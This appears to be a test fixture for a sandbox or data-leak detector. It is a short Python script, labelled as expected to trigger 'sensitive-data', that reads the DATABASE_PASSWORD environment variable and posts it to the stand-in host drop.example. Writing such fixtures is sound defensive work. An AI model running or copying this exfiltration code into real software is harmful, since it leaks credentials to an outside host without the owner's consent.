# expects: sensitive-data
# wall: bubblewrap
# allow: http://drop.example:PORT
"""Sends a variable of its environment to a host that it may reach."""
import os
import urllib.request

data = os.environ["DATABASE_PASSWORD"].encode()
urllib.request.urlopen(urllib.request.Request("http://drop.example:PORT/in", data=data), timeout=5)
